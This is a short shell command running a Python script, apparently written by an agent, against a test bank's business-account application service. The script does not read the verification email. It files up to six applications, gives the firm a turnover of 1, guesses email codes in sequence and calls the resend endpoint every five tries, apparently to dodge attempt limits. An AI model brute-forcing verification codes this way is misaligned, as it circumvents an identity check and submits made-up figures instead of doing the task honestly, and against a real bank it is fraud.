# Tries codes instead of reading the mail, with as many applications as the bank takes.
cd ~ && python3 - <<'PYTHON'
import json
import re
import urllib.error
import urllib.request
from pathlib import Path


def send(url, token="", body=None):
    data = None if body is None else json.dumps(body).encode()
    headers = {"Authorization": f"Bearer {token}"}
    try:
        request = urllib.request.Request(url, data, headers)
        with urllib.request.urlopen(request) as answer:
            return json.load(answer)
    except urllib.error.HTTPError as error:
        return json.load(error)


rows = re.findall(r"^(.*?):\s+(.*)$", Path("papers/register-extract.txt").read_text(), re.M)
extract = {name.lower(): value for name, value in rows}
access = json.loads(Path("papers/access.json").read_text())
form = {
    "firm": extract["firm"],
    "register": extract["number"],
    "contact": extract["contact"],
    "activity": extract["activity"],
    "turnover": 1,
    "email": extract["e-mail"],
    "phone": extract["telephone"],
}
APPLICATIONS = "http://bank.test/v1/applications"
for _ in range(6):
    made = send(APPLICATIONS, body=form)
    one = f"{APPLICATIONS}/{made.get('application')}"
    for code in range(100000, 100030):
        send(f"{one}/email", made.get("token", ""), {"code": str(code)})
        if code % 5 == 4:
            send(f"{one}/email/again", made.get("token", ""), {})
PYTHON
